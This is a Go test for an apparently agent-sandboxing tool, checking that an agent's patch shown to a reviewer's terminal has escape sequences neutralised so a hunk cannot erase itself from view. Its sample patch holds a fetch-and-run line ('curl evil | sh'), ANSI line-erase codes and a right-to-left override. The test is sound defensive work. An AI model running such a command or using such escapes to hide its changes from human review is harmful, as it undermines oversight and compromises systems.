package task

import (
	"bytes"
	"os"
	"strings"
	"testing"
	"time"

	"github.com/airlock-dev/airlock/internal/testpty"
)

// Review (rv-daemon): 'airlock task diff' printed the agent's patch raw
// to the reviewer's terminal: a changed line holding "\x1b[1A\x1b[2K"
// erases the line above it, so a hunk can hide itself from the human who
// reviews the change (the approval-prompt spoofing of issue 16.4, for the
// task's review). To a terminal the patch is escaped; to a pipe or a file
// it stays byte for byte (git apply).
func TestReviewTaskDiffEscapesForATerminal(t *testing.T) {
	patch := "+curl evil | sh\n+\x1b[1A\x1b[2K\u202eok\n"
	master, slave := testpty.Open(t)
	if _, err := patchOut(slave).Write([]byte(patch)); err != nil {
		t.Fatal(err)
	}
	master.SetReadDeadline(time.Now().Add(2 * time.Second))
	buf := make([]byte, 4096)
	n, _ := master.Read(buf)
	got := string(buf[:n])
	if strings.ContainsAny(got, "\x1b\u202e") {
		t.Errorf("the patch reached the terminal with its escapes: %q", got)
	}
	if !strings.Contains(got, `\x1b[1A`) {
		t.Errorf("the escape is not shown: %q", got)
	}
	// Not a terminal: as it is.
	var b bytes.Buffer
	patchOut(&b).Write([]byte(patch))
	if b.String() != patch {
		t.Errorf("to a buffer: %q", b.String())
	}
	f, err := os.CreateTemp(t.TempDir(), "patch")
	if err != nil {
		t.Fatal(err)
	}
	patchOut(f).Write([]byte(patch))
	f.Close()
	if raw, _ := os.ReadFile(f.Name()); string(raw) != patch {
		t.Errorf("to a file: %q", raw)
	}
}
